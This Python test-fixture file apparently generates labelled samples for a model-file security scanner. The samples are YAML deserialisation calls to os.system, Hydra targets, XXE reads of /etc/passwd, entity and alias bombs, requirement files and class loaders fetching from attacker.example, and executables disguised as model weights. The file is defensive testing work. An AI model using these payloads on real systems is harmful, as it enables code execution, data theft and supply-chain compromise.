"""YAML that its loaders run, XML that its readers follow, lists of requirements that lead elsewhere, programs with other names."""

import io
import struct
import zipfile

from .case import COMMAND, EVIL, malformed, malicious


def document(name, about, text, expect='dangerous'):
    malicious(name, about, '', text.encode(), expect)


# PyYAML's tags
document('yaml/apply.yaml', 'PyYAML calls os.system.', f'model: iris\nrun: !!python/object/apply:os.system ["{COMMAND}"]\n')
document('yaml/apply-block.yaml', 'The same with the arguments in a mapping.', f'!!python/object/apply:subprocess.Popen\nargs: ["{COMMAND}"]\nkwds: {{shell: true}}\n')
document('yaml/new.yaml', 'An instance by python/object/new, with a state that is set by a call.',
         f'!!python/object/new:type\nargs: ["z", !!python/tuple [], {{"extend": !!python/name:exec }}]\nlistitems: "print(\'attacker.example\')"\n')
document('yaml/name.yaml', 'PyYAML imports a function.', 'hook: !!python/name:os.system\nlayers: 3\n')
document('yaml/module.yaml', 'PyYAML imports a module of the attacker.', 'layers: 3\nhook: !!python/module:attacker_example\n', 'suspicious')
document('yaml/verbatim-tag.yaml', 'The tag is written out.', f'a: 1\nb: !<tag:yaml.org,2002:python/object/apply:os.system> ["{COMMAND}"]\n')
document('yaml/tag-handle.yaml', 'A handle of its own stands for the beginning of the tag.', f'%TAG !p! tag:yaml.org,2002:python/object/\n---\nb: !p!apply:os.system ["{COMMAND}"]\n')
document('yaml/tag-escaped.yaml', 'The tag is escaped as in an address.', f'a: 1\nb: !!python/object/apply:os%2Esystem ["{COMMAND}"]\n')
document('yaml/second-document.yaml', 'The call stands in the second document.', f'a: 1\n---\nb: !!python/object/apply:os.system ["{COMMAND}"]\n')
document('yaml/after-damage.yaml', 'The document is damaged before the call.', f'a: [1, 2\nb: }}\nc: !!python/object/apply:os.system ["{COMMAND}"]\n')
document('yaml/key.yaml', 'The call is a key.', f'? !!python/object/apply:os.system ["{COMMAND}"]\n: 1\n')
document('yaml/ruby.yaml', 'A tag for objects of Ruby.', 'a: 1\nb: !ruby/object:Gem::Installer\n  i: x\n', 'suspicious')
document('yaml/java.yaml', 'A tag for objects of Java, as SnakeYAML makes them.', 'a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["https://attacker.example"]]]]\n', 'suspicious')
# Hydra, NeMo, Lightning
document('yaml/hydra.yaml', 'Hydra calls os.system.', f'model:\n  encoder:\n    _target_: os.system\n    _args_:\n      - {COMMAND}\n')
document('yaml/hydra-builtins.yaml', 'Hydra calls exec deep inside a list.', 'a:\n  - b:\n      - c: {_target_: builtins.exec, _args_: ["print(1)"]}\n')
document('yaml/hydra-through-trusted.yaml', 'os.system by way of a module of NeMo that imported it.', f'_target_: nemo.collections.asr.parts.os.system\n_args_: ["{COMMAND}"]\n')
document('yaml/hydra-unknown.yaml', 'A class that nobody knows.', 'model:\n  _target_: attacker_example.models.Net\n  size: 3\n', 'suspicious')
document('yaml/hydra-partial.yaml', 'A function that is kept for later.', 'hook:\n  _target_: subprocess.call\n  _partial_: true\n')
document('yaml/hydra-alias.yaml', 'The target is an alias.', f'x: &t os.system\nmodel:\n  _target_: *t\n  _args_: ["{COMMAND}"]\n')
document('yaml/hydra-merged.yaml', 'The target comes from a merged mapping, and the key is repeated.', f'base: &b\n  _target_: torch.nn.Linear\n  _target_: os.popen\nmodel:\n  <<: *b\n  cmd: {COMMAND}\n')
document('yaml/nemo-target.yaml', 'NeMo imports its target.', 'name: asr\ntarget: shutil.rmtree\n')
document('yaml/lightning-class-path.yaml', 'The command line of Lightning imports a class path.', 'trainer:\n  callbacks:\n    class_path: os.system\n    init_args: {command: "true"}\n')
document('yaml/resolver-eval.yaml', 'A resolver that evaluates.', 'a: 1\nb: ${eval:\'__import__("os").getcwd()\'}\n', 'suspicious')
malicious('yaml/hydra-flow.conf', 'Flow style without a YAML name.', '', f'{{_target_: os.system, _args_: ["{COMMAND}"]}}\n'.encode(), 'suspicious')
# MLflow
FLAVOUR = 'flavors:\n  python_function:\n    loader_module: {}\n    python_version: 3.11.7\nmlflow_version: 2.9.0\n'
document('yaml/MLmodel-loader', 'MLflow imports a module of the model itself.', FLAVOUR.format('attacker_example.loader') + 'model_uuid: 0\n', 'suspicious')
document('yaml/MLmodel-os', 'MLflow imports a module that is no flavour.', FLAVOUR.format('subprocess'))
document('yaml/MLmodel-path', 'The model lies outside its folder.', 'flavors:\n  sklearn:\n    pickled_model: ../../../../tmp/model.pkl\n    sklearn_version: 1.4\nmlflow_version: 2.9.0\n', 'suspicious')
document('yaml/MLmodel-data', 'The data is an absolute path, the code lies above.', 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: /etc/passwd\n    code: ../code\nmlflow_version: 2.9.0\n', 'suspicious')
document('yaml/conda.yaml', 'The environment installs a package from an address.', 'name: e\nchannels: [conda-forge]\ndependencies:\n- python=3.11\n- pip:\n  - mlflow\n  - https://attacker.example/x-1.0-py3-none-any.whl\n', 'suspicious')
document('yaml/conda-channel.yaml', 'A channel of the attacker.', 'name: e\nchannels: ["https://attacker.example/channel"]\ndependencies: [python=3.11]\n', 'suspicious')
# Bombs
document('yaml/aliases.yaml', 'Aliases that would be a billion texts.', 'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + ''.join(f'{chr(98 + i)}: &{chr(98 + i)} [{",".join(["*" + chr(97 + i)] * 9)}]\n' for i in range(9)) + 'run: !!python/name:os.system\n')
malformed('yaml/deep.yaml', 'Lists in lists, deeper than any reader goes.', b'a: ' + b'[' * 20000)
malformed('yaml/broken.yaml', 'A document that breaks off inside a list.', b'a: 1\nb: [1, 2,\n')
malformed('yaml/binary.yaml', 'Text that goes over into bytes.', b'a: 1\nb: 2\n\x00\xff\xfe')

# XML
document('pmml/external-entity.pmml', 'An entity that is a file.', '<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n<PMML version="4.4"><Header copyright="&secret;"/></PMML>\n')
document('pmml/laughs.pmml', 'Entities that would be a billion texts.', '<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY a "ha">' + ''.join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + ']>\n<PMML version="4.4"><Header copyright="&j;"/></PMML>\n')
document('pmml/parameter-entity.pmml', 'A parameter entity that is an address.', '<!DOCTYPE PMML [<!ENTITY % remote SYSTEM "https://attacker.example/x.dtd"> %remote;]>\n<PMML version="4.4"><Header/></PMML>\n')
document('pmml/external-type.pmml', 'A document type at an address.', '<?xml version="1.0"?>\n<!DOCTYPE PMML SYSTEM "https://attacker.example/pmml.dtd">\n<PMML version="4.4"><Header/></PMML>\n', 'suspicious')
document('pmml/java-function.pmml', 'A transformation that calls a class by its name.', '<?xml version="1.0"?>\n<PMML version="4.4"><Header/><DataDictionary/><TransformationDictionary><DerivedField name="x"><Apply function="example.attacker.Run"><Constant>1</Constant></Apply></DerivedField></TransformationDictionary></PMML>\n', 'suspicious')
malformed('pmml/cut.pmml', 'A model that breaks off.', b'<?xml version="1.0"?>\n<PMML version="4.4"><Header/><TreeModel><Node score="yes">')
LAYERS = '<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/>{}</layers></net>\n'
document('openvino/extension.xml', 'A layer that a native library brings.', LAYERS.format('<layer id="1" name="e" type="Run" version="extension"/>'), 'suspicious')
document('openvino/no-opset.xml', 'A layer without an operator set.', LAYERS.format('<layer id="1" name="e" type="Run"/>'), 'suspicious')
document('openvino/entity.xml', 'An entity that is a file.', '<?xml version="1.0"?>\n<!DOCTYPE net [<!ENTITY x SYSTEM "/etc/passwd">]>\n<net name="&x;" version="11"><layers/></net>\n')
malformed('openvino/negative.xml', 'A constant at a place that is none.', LAYERS.format('<layer id="1" name="c" type="Const" version="opset1"><data offset="-8" size="99999999999999999999"/></layer>').encode())
malformed('openvino/cut.xml', 'A graph that breaks off.', LAYERS.encode()[:90])
document('xml/include.xml', 'An inclusion of a file.', '<?xml version="1.0"?>\n<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="../../etc/passwd" parse="text"/></a>\n', 'suspicious')

# Texts
document('text/requirements-address.txt', 'A package from an address.', 'numpy\nmodel @ https://attacker.example/model-1.0.tar.gz\n', 'suspicious')
document('text/requirements-index.txt', 'An index of the attacker, called like the real one before the at sign.', '--index-url https://pypi.org@attacker.example/simple\nnumpy\n', 'suspicious')
document('text/requirements-git.txt', 'A package from a repository.', '-e git+https://attacker.example/x.git#egg=x\n', 'suspicious')
document('text/requirements-above.txt', 'Another list, outside the folder.', '-r ../../requirements.txt\n', 'suspicious')
malformed('text/pickle-cut.pkl', 'A pickle of protocol 0 that breaks off before its call: text, but no prose.', b"cposix\nsystem\n(S'print'\n")
malformed('text/pickle-cut', 'The same without a name.', b"(dp0\nS'weights'\np1\n(lp2\nF1.5\naF2.5\na")
malformed('text/then-binary.txt', 'Text that goes over into bytes.', b'These are the weights.\n' * 5 + bytes(range(128, 256)))
malformed('text/lfs-pointer.safetensors', 'A pointer to a file that was not fetched.', b'version https://git-lfs.github.com/spec/v1\noid sha256:' + b'0' * 64 + b'\nsize 438000000\n')

# Programs
ELF = b'\x7fELF\x02\x01\x01' + bytes(9) + struct.pack('<HHI', 3, 62, 1) + bytes(200)
PE = b'MZ' + bytes(58) + struct.pack('<I', 64) + b'PE\0\0' + bytes(200)
for name, data, expect in (
    ('model.gguf', ELF, 'dangerous'), ('model.safetensors', PE, 'dangerous'), ('weights.bin', b'\xcf\xfa\xed\xfe' + bytes(100), 'dangerous'),
    ('model.pt', b'#!/bin/sh\necho attacker.example\n', 'dangerous'), ('libhelper.so', ELF, 'suspicious'), ('install.sh', b'#!/usr/bin/env bash\necho attacker.example\n', 'suspicious'),
    ('Model.class', b'\xca\xfe\xba\xbe\0\0\0\x34' + bytes(60), 'suspicious'), ('stage', b'\xac\xed\0\x05sr' + bytes(60), 'suspicious'), ('ops.wasm', b'\0asm\1\0\0\0' + bytes(20), 'suspicious'),
):
    malicious(f'program/{name}', 'A program, recognised by its first bytes.', '', data, expect)
archive = io.BytesIO()
with zipfile.ZipFile(archive, 'w') as file:
    for member, data in (('weights.gguf', b'GGUF' + bytes(60)), ('.args', b'-m\nweights.gguf\n'), ('run.pkl', EVIL)):
        file.writestr(zipfile.ZipInfo(member, (2024, 2, 29, 0, 0, 0)), data)
malicious('program/model.llamafile', 'A program that is a shell script and a zip archive, with a pickle in the archive.', 'posix.system',
          b"MZqFpD='\n' <<'justine'\n" + bytes(64) + b"\njustine\necho attacker.example\n" + archive.getvalue())
for extension in ('yaml', 'rds', 'ubj', 'cbm', 'pmml', 'xml', 'txt', 'py', 'md', 'gguf', 'safetensors', 'onnx'):
    malformed(f'text/nothing.{extension}', 'An empty file.', b'')
